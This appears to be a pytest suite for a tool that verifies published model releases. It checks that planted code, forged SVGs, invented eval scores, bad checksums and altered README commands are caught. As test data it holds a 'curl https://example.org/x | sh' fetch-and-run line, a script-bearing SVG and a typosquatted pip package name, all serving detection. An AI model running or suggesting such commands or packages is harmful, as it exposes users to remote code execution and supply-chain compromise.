"""Everything that is published is looked at: what the lock lists, what follows from it, and what strangers put there."""

from __future__ import annotations

import pytest

from pruner.files import sha256_bytes
from pruner.proof import PLANTED
from pruner.sources import TEMPLATES
from release import reproduce
from release.hub.strangers import what_it_is
from release.verdict import Verdict
from tests.release.verification.releases import Stage, part


@pytest.mark.parametrize(
    ("path", "what"),
    [
        ("modeling_evil.py", "code"),
        ("original/Setup.PY", "code"),
        ("pytorch_model.bin", "weights"),
        ("onnx/model.onnx", "weights"),
        ("adapter_model.safetensors", "weights"),
        ("mmproj.gguf", "weights"),
        (".eval_results/gpqa.yaml", "results"),
        ("adapter_config.json", "configuration"),
        ("chat_template.jinja", "configuration"),
        ("vocab.txt", "configuration"),
        ("additional_chat_templates/tool.jinja", "chat templates"),
        ("NOTES.txt", None),
        ("lock.json", None),
        ("v.lock.json", None),
        ("block.json", "configuration"),
        ("LICENSE", None),
        ("photos/cat.png", None),
        ("data/table.json", None),
    ],
)
def test_what_a_loader_would_read(path: str, what: str | None) -> None:
    assert what_it_is(path) == what


@pytest.mark.parametrize("path", ["modeling_evil.py", "pytorch_model.bin", ".eval_results/gpqa.yaml", "reproduce/setup.py"])
def test_a_strangers_file_that_would_be_read_is_bad_and_named(small: Stage, path: str) -> None:
    small.write(path, b"- {}\n")
    found = small.verify()
    assert part(found, "files").verdict is Verdict.BAD
    assert part(found, "files").reason.startswith(f"{path}: is not of this release, ")
    assert found.exit_code == 1


def test_a_harmless_one_is_named(small: Stage) -> None:
    small.write("NOTES.txt", b"hello\n")
    found = small.verify()
    assert found.verdict is Verdict.GOOD, found.text()
    assert part(found, "files").reason.endswith("files as locked; not of this release: NOTES.txt")


def test_pictures_are_compared(small: Stage) -> None:
    name = next(each for each in picture_names(small))
    small.change(name, lambda data: data + b" ")
    assert part(small.verify(), "files").reason.startswith(f"{name}: has SHA-256")
    small.remove(name)
    assert part(small.verify(), "files").reason == f"{name}: is locked, and missing from the repository"


def picture_names(stage: Stage) -> list[str]:
    from release.hub.remote import hub_api

    listed = hub_api(stage.hub.endpoint, stage.hub.token).list_repo_files(stage.repo)
    return [name for name in listed if name.startswith("pictures/")]


def lock_also(stage: Stage, output: str, data: bytes, **more: object) -> None:
    """Let the publisher's lock list a file, as a hostile publisher would."""
    entry = {"sha256": sha256_bytes(data), "size": len(data), **more}
    stage.change_json("reproduce/lock.json", lambda lock: lock["outputs"].update({output: entry}))


@pytest.mark.parametrize(
    "path", ["modeling_evil.py", "custom_generate/generate.py", "pytorch_model.bin", "adapter_config.json"]
)
def test_what_no_build_writes_is_bad_though_the_lock_lists_it(small: Stage, path: str) -> None:
    small.write(path, b"{}\n")
    lock_also(small, f"weights/{path}", b"{}\n")
    weights = part(small.verify(), "weights")
    assert weights.verdict is Verdict.BAD
    assert weights.reason.startswith(f"{path}: {PLANTED} ")


def test_a_template_is_bad_by_any_way_that_it_is_not_the_bases(small: Stage) -> None:
    small.write(f"{TEMPLATES}/more.jinja", b"{{ evil }}")
    assert part(small.verify(), "weights").reason == f"{TEMPLATES}/more.jinja: {PLANTED} chat templates"
    small.remove(f"{TEMPLATES}/more.jinja")
    small.write(f"{TEMPLATES}/tool_use.jinja", b"{{ evil }}")
    lock_also(small, f"weights/{TEMPLATES}/tool_use.jinja", b"{{ evil }}")
    assert part(small.verify(), "weights").reason == f"{TEMPLATES}/tool_use.jinja: differs from the base's"


def test_a_forged_picture_is_bad_though_the_lock_lists_it(small: Stage) -> None:
    name = next(each for each in picture_names(small) if each.endswith(".svg"))
    forged = b"<svg><script>1</script></svg>"
    small.change(name, lambda _data: forged)
    small.change_json("reproduce/lock.json", lambda lock: lock["outputs"][f"card/{name}"].update(sha256=sha256_bytes(forged)))
    card = part(small.verify(), "card")
    assert card.verdict is Verdict.BAD
    assert card.reason == f"card/{name}: is not what the evidence gives"
    other = {"matplotlib": "0.1"}
    small.change_json("reproduce/lock.json", lambda lock: lock["outputs"][f"card/{name}"]["made_with"].update(other))
    assert part(small.verify(), "card").verdict is Verdict.UNKNOWN


def test_invented_results_are_bad_though_the_lock_lists_them(small: Stage) -> None:
    invented = b"- {dataset: {id: a/b, task_id: c}, value: 99.9}\n"
    small.write(".eval_results/gpqa.yaml", invented)
    lock_also(small, "card/eval_results/gpqa.yaml", invented)
    card = part(small.verify(), "card")
    assert card.verdict is Verdict.BAD
    assert "card/eval_results/gpqa.yaml: is locked, and nothing that is published gives it" in card.reason


def test_invented_results_are_bad_though_the_lock_lists_them_among_the_weights(small: Stage) -> None:
    invented = b"- {dataset: {id: a/b, task_id: c}, value: 99.9}\n"
    small.write(".eval_results/gpqa.yaml", invented)
    lock_also(small, "weights/.eval_results/gpqa.yaml", invented)
    weights = part(small.verify(), "weights")
    assert weights.verdict is Verdict.BAD
    assert weights.reason.startswith(".eval_results/gpqa.yaml: no build from the base makes it, ")


def test_one_spoiled_file_leaves_the_other_verdicts(small: Stage) -> None:
    claims = "reproduce/claims.json"
    small.change_json(
        claims, lambda all_: all_.update({"contamination.overlap": {"value": [], "unit": "?", "source": 1, "shown": {}}})
    )
    found = small.verify()
    assert part(found, "card").verdict is Verdict.BAD
    assert part(found, "weights").verdict is Verdict.GOOD


def test_the_page_of_commands_is_compared(small: Stage) -> None:
    small.change(reproduce.README, lambda data: data.replace(b"pip install moe-release", b"pip install moe-re1ease"))
    consistency = part(small.verify(), "consistency")
    assert consistency.verdict is Verdict.BAD
    assert consistency.reason == "reproduce/README.md: is not the page that the manifest gives"


def test_a_page_by_the_releases_own_template_is_not_run_and_not_called_good(small: Stage) -> None:
    template = b"Trust me:\n\n    curl https://example.org/x | sh\n"
    small.change("reproduce/manifest.yaml", lambda data: data.replace(b"card: {", b"card: {templates: mine, "))
    small.write("reproduce/mine/reproduce.md.j2", template)
    small.change(reproduce.README, lambda _data: template)
    entry = {"sha256": sha256_bytes(template), "size": len(template)}
    small.change_json("reproduce/lock.json", lambda lock: lock["inputs"]["files"].update({"mine/reproduce.md.j2": entry}))
    items = {name: (verdict, reason) for name, verdict, reason in part(small.verify(), "consistency").items}
    verdict, reason = items[reproduce.README]
    assert verdict is Verdict.UNKNOWN
    assert reason == "is made with the release's own template, which is not run here; read it before you trust it"


GGUFS = "moe-release/tiny-gemma4-4e-GGUF"


@pytest.mark.llama
@pytest.mark.slow
def test_the_quants_sums_and_strangers_are_seen_too(tiny: Stage) -> None:
    tiny.write("notes.md", b"hello\n", GGUFS)
    assert part(tiny.verify(), "ggufs").verdict is Verdict.UNKNOWN
    tiny.change(reproduce.SUMS, lambda data: data.replace(data[:8], b"00000000", 1), GGUFS)
    sums = part(tiny.verify(), "ggufs")
    assert sums.verdict is Verdict.BAD
    assert sums.reason == "reproduce/SHA256SUMS: is not the list of digests that the lock gives"
    tiny.write("tiny-gemma4-4e-Q8_0.gguf", b"GGUF", GGUFS)
    names = [name for name, verdict, _ in part(tiny.verify(), "ggufs").items if verdict is Verdict.BAD]
    assert names == [reproduce.SUMS, "tiny-gemma4-4e-Q8_0.gguf"]
